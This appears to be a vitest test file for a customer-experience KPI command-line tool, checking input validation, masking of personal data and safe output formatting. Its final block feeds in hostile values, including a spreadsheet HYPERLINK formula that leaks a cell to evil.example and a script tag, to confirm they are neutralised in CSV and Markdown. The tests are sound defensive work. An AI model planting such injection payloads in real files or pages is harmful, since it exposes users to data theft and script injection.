import type { KpiReport } from '@cxqa/core/kpi';
import { describe, expect, it } from 'vitest';
import { jsonl, resultRecord, tempFiles } from './kpi-files.js';
import { run } from './run-cli.js';

const file = tempFiles('cxqa-report-bad-');
const result = (over: Record<string, unknown>) =>
  resultRecord({ conversationId: 'c1', agentIds: ['a1'], startedAt: '2026-03-02T10:00:00.000Z', endedAt: '2026-03-02T10:30:00.000Z', ...over });
/** `cxqa report` over a good result on line 1 and `bad` on line 2. */
const reportWith = (name: string, bad: Record<string, unknown>, ...args: string[]) =>
  run(['report', file(name, jsonl([result({}), result({ conversationId: 'c2', ...bad })])), ...args]);

describe('cxqa report rejects results it cannot count, naming file, line and field (exit 2, no stack)', () => {
  it.each([
    ['not-a-date.jsonl', { startedAt: 'not a date' }, 'startedAt'],
    ['rollover.jsonl', { startedAt: '2026-02-30T10:00:00Z' }, 'startedAt'],
    ['garbage-end.jsonl', { endedAt: 'garbage' }, 'endedAt'],
    ['far-year.jsonl', { startedAt: '+275760-09-13T00:00:00.000Z' }, 'startedAt'],
    ['local-time.jsonl', { startedAt: '2026-03-02T10:00:00' }, 'startedAt'],
    ['future-schema.jsonl', { schemaVersion: 99 }, 'schemaVersion'],
  ])('%s', async (name, bad, field) => {
    const r = await reportWith(name, bad);
    expect(r.code).toBe(2);
    expect(r.err).toContain(`${name} line 2: not a result: ${field}:`);
    expect(r.err).not.toMatch(/internal error|RangeError|\n\s+at /);
    expect(r.out).toBe('');
  });

  it('says a future schemaVersion is newer than it reads', async () => {
    expect((await reportWith('future2.jsonl', { schemaVersion: 99 })).err).toMatch(/newer than this cxqa reads \(at most 2\)/);
  });

  it('rejects a negative duration and an end before the start, naming the metric', async () => {
    const negative = await reportWith('negative.jsonl', { metrics: { 'timing.firstResponseSeconds': -5 } });
    expect(negative.code).toBe(2);
    expect(negative.err).toContain('negative.jsonl line 2: result c2: metrics.timing.firstResponseSeconds is -5: a duration cannot be negative');
    const backwards = await reportWith('backwards.jsonl', { endedAt: '2026-03-02T09:00:00.000Z' });
    expect(backwards.code).toBe(2);
    expect(backwards.err).toContain('backwards.jsonl line 2: result c2: endedAt 2026-03-02T09:00:00.000Z is before startedAt');
  });

  it('names file and line for a CSAT outside the scale', async () => {
    const r = await reportWith('csat.jsonl', { conversationId: 'amz-1001', csat: 99 });
    expect(r.code).toBe(2);
    expect(r.err).toContain('csat.jsonl line 2: result amz-1001: csat 99 is outside the scale 1–5');
  });

  it('masks personal data in group keys and SLA target names from a hand-edited result', async () => {
    const rows = [
      result({ agentIds: ['jane.doe@example.com', '+1 415 555 0199'], inquiryType: 'jane.doe@example.com', platform: '+1 415 555 0199' }),
      result({
        conversationId: 'c2',
        inquiryType: 'jane.doe@example.com',
        metrics: { 'timing.resolutionTargetSeconds': 3600, 'timing.resolutionSeconds': 60 },
      }),
    ];
    const path = file('pii.jsonl', jsonl(rows));
    for (const by of ['agent', 'inquiryType', 'platform']) {
      const r = await run(['report', path, '--by', by, '--period', 'all']);
      expect(r.code).toBe(0);
      expect(r.out).not.toContain('jane.doe@example.com');
      expect(r.out).not.toContain('415 555 0199');
      const report = JSON.parse(r.out) as KpiReport;
      expect(report.rows.reduce((n, row) => n + row.conversations, 0)).toBeGreaterThanOrEqual(2);
    }
    const agents = (JSON.parse((await run(['report', path, '--by', 'agent', '--period', 'all'])).out) as KpiReport).rows.map((row) => row.group);
    expect(agents).toContain('a1');
    expect(agents).toHaveLength(3);
  });

  it.each([
    [{ scoreBuckets: [90, 60, 60] }, 'kpis.scoreBuckets'],
    [{ csat: { min: 5, max: 1 } }, 'kpis.csat.min'],
  ])('rejects the config %j naming %s', async (kpis, field) => {
    const r = await reportWith('ok.jsonl', {}, '--config', file(`cfg-${field}.json`, JSON.stringify({ kpis })));
    expect(r.code).toBe(2);
    expect(r.err).toContain(field);
  });
});

describe('cxqa alerts', () => {
  const AT = '2026-03-02T12:00:00Z';
  const waiting = (n: number) =>
    Array.from({ length: n }, (_, i) => ({
      id: `w${i}`,
      inquiryType: 'jane.doe@example.com',
      metadata: { queue: '+1 415 555 0199' },
      messages: [{ role: 'customer', text: 'Any news?', at: '2026-03-02T09:00:00Z' }],
    }));

  it('rejects an --at that rolls over (Feb 30) with exit 2', async () => {
    const r = await run(['alerts', file('one-alert.jsonl', jsonl(waiting(1))), '--at', '2026-02-30T10:00:00Z']);
    expect(r.code).toBe(2);
    expect(r.err).toContain('--at 2026-02-30T10:00:00Z: expected an RFC 3339 time');
    expect((await run(['alerts', file('one-alert.jsonl', jsonl(waiting(1))), '--at', '2024-02-29T10:00:00Z'])).code).toBe(0);
  });

  it('masks the inquiry type, the queue and unreadable-record messages', async () => {
    const r = await run(['alerts', file('pii-alerts.jsonl', `${jsonl(waiting(10))}{"id": "jane.doe@example.com", "messages": 3}\n`), '--at', AT]);
    expect(r.code).toBe(1);
    const report = JSON.parse(r.out);
    expect(report.alerts[0].conversations).toHaveLength(10);
    expect(report.unreadable).toHaveLength(1);
    expect(r.out).not.toContain('jane.doe@example.com');
    expect(r.out).not.toContain('415 555 0199');
    expect(report.alerts[0].conversations[0].queue).toMatch(/•/);
  });
});

describe('cxqa report writes hostile group keys as text', () => {
  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+SUM(1,2)', '@cmd', 'a|b|c', 'line1\nline2', '<script>alert(3)</script>'];
  const path = file('hostile.jsonl', jsonl(hostile.map((agent, i) => result({ conversationId: `h${i}`, agentIds: [agent] }))));

  it('CSV: a cell that would start a spreadsheet formula is prefixed with a quote', async () => {
    const r = await run(['report', path, '--by', 'agent', '--format', 'csv']);
    expect(r.code, r.err).toBe(0);
    for (const start of ['=HYPERLINK', '+SUM', '@cmd']) {
      expect(r.out).not.toMatch(new RegExp(`(^|,)"?\\${start[0]}${start.slice(1)}`, 'm'));
      expect(r.out).toContain(`'${start}`);
    }
  });

  it('Markdown: pipes escaped, line breaks flattened, HTML as entities, one row per group', async () => {
    const r = await run(['report', path, '--by', 'agent', '--format', 'md']);
    expect(r.code, r.err).toBe(0);
    const rows = r.out.trim().split('\n');
    expect(rows).toHaveLength(2 + hostile.length);
    const columns = (row: string) => row.split(/(?<!\\)\|/).length;
    expect(new Set(rows.map(columns)).size).toBe(1);
    expect(r.out).toContain('a\\|b\\|c');
    expect(r.out).toContain('line1 line2');
    expect(r.out).toContain('&lt;script&gt;');
    expect(r.out).not.toContain('<script>');
  });
});
